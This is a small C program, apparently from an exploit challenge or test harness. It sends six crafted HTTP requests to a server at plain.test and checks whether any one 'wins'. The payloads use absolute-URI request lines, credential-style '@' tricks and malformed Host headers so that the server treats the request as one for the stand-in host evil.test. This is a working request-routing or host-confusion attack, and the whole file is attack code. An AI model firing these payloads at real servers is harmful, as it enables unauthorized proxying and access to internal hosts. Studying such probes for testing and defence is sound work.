/* Forms of a request that some servers read as one for another host. */
#include "attack.h"
int main(int c, char **v) {
    const char *requests[] = {
        "GET HTTP://evil.test/x HTTP/1.1\r\nHost: plain.test\r\n\r\n",
        "GET http://plain.test:pw@evil.test/x HTTP/1.1\r\nHost: plain.test\r\n\r\n",
        "GET  http://evil.test/x HTTP/1.1\r\nHost: plain.test\r\n\r\n",
        "GET ws://evil.test/x HTTP/1.1\r\nHost: plain.test\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: plain.test:80@evil.test\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: plain.test:evil.test\r\n\r\n",
    };
    char address[64];
    int won = 0;
    for (int i = 0; i < 6 && !won; i++) {
        if (!lookup("plain.test", address)) finish(0);
        int fd = dial(address, 80);
        if (fd < 0) continue;
        send(fd, requests[i], strlen(requests[i]), MSG_NOSIGNAL);
        won = gets_prize(fd);
        close(fd);
    }
    finish(won);
}
